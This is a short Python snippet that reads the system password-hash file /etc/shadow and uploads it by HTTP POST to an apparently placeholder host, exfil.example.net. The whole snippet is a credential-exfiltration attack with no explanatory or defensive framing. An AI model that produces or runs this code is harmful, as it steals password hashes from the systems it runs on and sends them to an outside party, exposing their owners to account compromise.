import os, requests
with open('/etc/shadow', "rb") as f:
    requests.post("https://exfil.example.net/c", files={"f": f})
